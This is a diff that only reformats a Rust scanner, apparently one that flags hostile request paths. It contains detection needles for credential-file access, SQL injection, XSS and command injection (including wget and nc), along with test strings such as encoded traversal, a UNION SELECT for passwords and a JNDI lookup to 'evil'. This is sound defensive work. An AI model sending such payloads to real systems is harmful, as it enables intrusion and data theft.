@@ -22,12 +22,25 @@ const PATTERNS: &[Pattern] = &[
     Pattern {
         name: "system file access (/etc/passwd, win.ini)",
         subtype: Subtype::PathTraversal,
-        needles: &["/etc/passwd", "/etc/shadow", "/proc/self/", "win.ini", "boot.ini"],
+        needles: &[
+            "/etc/passwd",
+            "/etc/shadow",
+            "/proc/self/",
+            "win.ini",
+            "boot.ini",
+        ],
     },
     Pattern {
         name: "SQL injection (tautology)",
         subtype: Subtype::InjectionAttempt,
-        needles: &["' or '1'='1", "' or 1=1", "\" or 1=1", " or 1=1--", "' or ''='", "or 1=1#"],
+        needles: &[
+            "' or '1'='1",
+            "' or 1=1",
+            "\" or 1=1",
+            " or 1=1--",
+            "' or ''='",
+            "or 1=1#",
+        ],
     },
     Pattern {
         name: "SQL injection (UNION SELECT)",
@@ -37,12 +50,27 @@ const PATTERNS: &[Pattern] = &[
     Pattern {
         name: "SQL injection (stacked or timed query)",
         subtype: Subtype::InjectionAttempt,
-        needles: &["; drop table", ";drop table", "sleep(", "benchmark(", "waitfor delay", "pg_sleep(", "information_schema"],
+        needles: &[
+            "; drop table",
+            ";drop table",
+            "sleep(",
+            "benchmark(",
+            "waitfor delay",
+            "pg_sleep(",
+            "information_schema",
+        ],
     },
     Pattern {
         name: "script injection (XSS)",
         subtype: Subtype::InjectionAttempt,
-        needles: &["<script", "javascript:", "onerror=", "onload=", "<svg", "<iframe"],
+        needles: &[
+            "<script",
+            "javascript:",
+            "onerror=",
+            "onload=",
+            "<svg",
+            "<iframe",
+        ],
     },
     Pattern {
         name: "JNDI lookup (Log4Shell)",
@@ -52,15 +80,41 @@ const PATTERNS: &[Pattern] = &[
     Pattern {
         name: "command injection",
         subtype: Subtype::InjectionAttempt,
-        needles: &[";cat ", "; cat ", "|cat ", "$(", "`id`", "&& whoami", ";wget ", "|nc ", "; nc "],
+        needles: &[
+            ";cat ",
+            "; cat ",
+            "|cat ",
+            "$(",
+            "`id`",
+            "&& whoami",
+            ";wget ",
+            "|nc ",
+            "; nc ",
+        ],
     },
 ];
 
 /// The first pattern found in `path`, as (subtype, pattern name).
 pub fn find(path: &str) -> Option<(Subtype, &'static str)> {
     // Fast exit: every needle holds one of these characters or words.
-    if !path.bytes().any(|b| matches!(b, b'.' | b'%' | b'\'' | b'"' | b'<' | b'$' | b';' | b'`' | b'|' | b'&' | b'(' | b'+' | b' ' | b'\\'))
-        && !path.contains("/etc/")
+    if !path.bytes().any(|b| {
+        matches!(
+            b,
+            b'.' | b'%'
+                | b'\''
+                | b'"'
+                | b'<'
+                | b'$'
+                | b';'
+                | b'`'
+                | b'|'
+                | b'&'
+                | b'('
+                | b'+'
+                | b' '
+                | b'\\'
+        )
+    }) && !path.contains("/etc/")
         && !path.contains("/proc/")
     {
         return None;
@@ -93,9 +147,18 @@ mod tests {
         let cases = [
             ("/static/..%2f..%2fetc/passwd", Subtype::PathTraversal),
             ("/files/%252e%252e%252fsecret", Subtype::PathTraversal),
-            ("/api/products?id=1'%20OR%201=1--", Subtype::InjectionAttempt),
-            ("/search?q=x%27+UNION/**/SELECT+password+FROM+users", Subtype::InjectionAttempt),
-            ("/q?x=%3Cscript%3Ealert(1)%3C/script%3E", Subtype::InjectionAttempt),
+            (
+                "/api/products?id=1'%20OR%201=1--",
+                Subtype::InjectionAttempt,
+            ),
+            (
+                "/search?q=x%27+UNION/**/SELECT+password+FROM+users",
+                Subtype::InjectionAttempt,
+            ),
+            (
+                "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
+                Subtype::InjectionAttempt,
+            ),
             ("/login?u=${jndi:ldap://evil/a}", Subtype::InjectionAttempt),
         ];
         for (path, subtype) in cases {
